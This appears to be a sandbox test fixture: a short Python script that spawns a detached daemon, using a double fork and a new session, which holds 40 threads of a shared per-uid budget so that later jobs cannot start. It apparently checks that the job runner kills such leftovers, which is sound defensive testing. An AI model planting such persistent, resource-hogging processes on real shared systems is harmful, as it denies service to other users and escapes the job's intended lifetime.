# Attack: a daemon that outlives the job (double fork, new session) and holds 40 threads of a 64 budget, so that a
# later job sharing its budget (the same uid) cannot start its own 40. It leaves the job itself enough to finish.
# Nothing of it may run once the job has ended.
import os
import threading
import time

import torch

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:

        def hold():
            time.sleep(3600)

        for _ in range(40):
            threading.Thread(target=hold, daemon=True).start()
        time.sleep(3600)
    os._exit(0)
os.wait()
time.sleep(1)  # let the daemon take its threads while the job still runs
print("UID", os.getuid())
model = lambda x: x.sin()
example_inputs = (torch.ones(2),)
